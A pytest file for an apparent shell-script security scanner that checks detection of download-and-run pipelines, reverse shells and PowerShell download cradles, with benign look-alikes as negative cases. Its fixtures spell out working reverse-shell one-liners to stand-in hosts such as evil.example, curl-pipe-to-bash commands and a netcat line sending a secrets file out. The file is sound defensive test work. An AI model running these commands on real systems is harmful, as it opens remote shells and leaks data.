"""Downloads that are run unread and reverse shells, told apart from what only looks like them."""

from __future__ import annotations

import pytest

from secops_hooks.config.shell_risks import powershell_downloads, reverse_shells, unread_downloads
from secops_hooks.files.source import Source
from secops_hooks.parse.locate import Located
from secops_hooks.parse.shell import parse_script
from secops_hooks.parse.shell_ast import Script

FIXED = "0a727065ae5a2313e8e6acf172844e8ca30c1822"


def script(text: str) -> Script:
    return parse_script(Located(Source.from_text("run.sh", text), text, ((0, 0),)))


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://a.example/i.sh | bash",
        "curl -fsSL https://a.example/i.sh | sudo -E bash -s -- -y",
        "wget -qO- a.example/i.sh | sh -ex",
        "curl https://a.example/x | tee log | sh",
        "curl https://a.example/x.py | python3 -",
        "curl $URL | sh",
        "bash <(curl -s https://a.example/up)",
        "source <(curl -s https://a.example/up)",
        'eval "$(wget -qO- https://a.example/e)"',
        'sh -c "$(curl -fsSL https://a.example/i)"',
        "if true; then curl https://a.example/i | sh; fi",
        "sudo sh -c 'curl https://a.example/i | sh'",
        'code=$(curl -s https://a.example/i)\neval "$code"',
        'code="$(wget -qO- https://a.example/i)" && bash -c "$code" -- -y',
        'code=$(curl -s https://a.example/i); echo "$code" | sh',
        'code=$(curl -s https://a.example/i)\nbash <<< "$code"',
    ],
)
def test_download_that_is_run(text: str) -> None:
    assert len(list(unread_downloads(script(text)))) == 1


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://a.example/data.json | jq .x",
        "curl https://a.example/x | python3 -c 'import json'",
        "curl https://a.example/x | bash ./read.sh",
        f"curl https://raw.example/a/b/{FIXED}/i.sh | bash",
        "curl http://localhost:8080/i.sh | bash",
        "curl -sL https://a.example/k.asc | gpg --dearmor > k.gpg",
        "echo 'curl https://a.example | bash'",
        "# curl https://a.example | bash",
        "cat install.sh | bash",
        'eval "$(ssh-agent -s)"',
        "bash <(cat x)",
        'version=$(curl -s https://a.example/latest)\nsh -c "install tool@$version"',
        'code=$(cat x); eval "$code"',
        'code=$(curl -s https://a.example/i)\necho "$code" | jq .',
    ],
)
def test_download_that_is_not_run(text: str) -> None:
    assert list(unread_downloads(script(text))) == []


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "sh -i 5<> /dev/tcp/evil.example/443 0<&5 1>&5 2>&5",
        "nc -e /bin/sh evil.example 4444",
        "sudo ncat evil.example 443 --exec /bin/bash",
        "nc 203.0.113.7 4444 < secrets",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc evil.example 9 > /tmp/f",
        "socat exec:'bash -li',pty tcp:evil.example:4444",
        "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'",
    ],
)
def test_reverse_shell(text: str) -> None:
    assert list(reverse_shells(script(text)))


@pytest.mark.parametrize(
    "text",
    [
        "timeout 1 bash -c '</dev/tcp/localhost/5432'",
        "until nc -z db 5432; do sleep 1; done",
        "nc -z 203.0.113.7 443",
        "nc -l 8080",
        "echo hi | nc 10.0.0.5 9125",
        "echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        "rsync -e ssh a b",
        "python3 -c 'import socket; print(socket.gethostname())'",
    ],
)
def test_no_reverse_shell(text: str) -> None:
    assert list(reverse_shells(script(text))) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("irm https://a.example/i.ps1 | iex", 1),
        ("Invoke-WebRequest https://a.example/i.ps1 -UseBasicParsing | Invoke-Expression", 1),
        ("iex ((New-Object Net.WebClient).DownloadString('https://a.example/i.ps1'))", 1),
        ("Invoke-WebRequest https://a.example/a.zip -OutFile a.zip", 0),
        ("irm https://a.example/x.json | ConvertFrom-Json", 0),
    ],
)
def test_powershell(text: str, found: int) -> None:
    assert len(list(powershell_downloads(text))) == found


def test_place_is_the_whole_pipeline() -> None:
    (risk,) = unread_downloads(script("set -e\n  curl -s https://a.example/i | sh -s -- -q && echo done\n"))
    assert (risk.span.line, risk.span.col, risk.span.end_line, risk.span.end_col) == (2, 3, 2, 44)
